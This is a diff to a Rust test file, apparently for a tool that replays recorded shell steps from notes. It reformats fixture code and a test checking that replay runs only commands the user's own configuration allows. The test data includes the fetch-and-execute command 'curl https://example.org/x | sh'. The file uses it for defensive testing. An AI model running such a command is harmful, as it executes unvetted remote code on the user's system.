@@ -64,9 +64,11 @@ fn lab() -> TraceLab {
     let mut steps = String::new();
     let mut cells = String::from("# Cells\n\n");
     for (at, text) in HOSTILE.iter().enumerate() {
-        let ticks = if text.contains('`') { "``" } else { "`" };
+        let ticks = if text.contains('`') { ["`` ", " ``"] } else { ["`", "`"] };
         steps.push_str(&format!(
-            "- {ticks}Bash {text}{ticks} → `ok` (09:{:02}:00) ^n-{:03}\n    - reads: `a.txt@0123abcd`\n    - by: cru run\n",
+            "- {}Bash {text}{} → `ok` (09:{:02}:00) ^n-{:03}\n    - reads: `a.txt@0123abcd`\n    - by: cru run\n",
+            ticks[0],
+            ticks[1],
             at % 60,
             at + 1
         ));
@@ -149,7 +151,10 @@ fn there_is_no_yes() {
 #[test]
 fn only_the_users_own_configuration_allows() {
     let lab = lab();
-    lab.put_note("2026-11-20-theirs", &lab.note_text("2026-11-20-theirs").replace("curl https://example.org/x | sh", "cat a.txt"));
+    lab.put_note(
+        "2026-11-20-theirs",
+        &lab.note_text("2026-11-20-theirs").replace("curl https://example.org/x | sh", "cat a.txt"),
+    );
     fs::write(lab.path("vault/.cru/config.toml"), "[run]\nallow = [\"cat *\"]\n").unwrap();
     let step = "2026-11-20-theirs#n-001";
     let ran = run(&lab, &["replay", step, "--run"]);
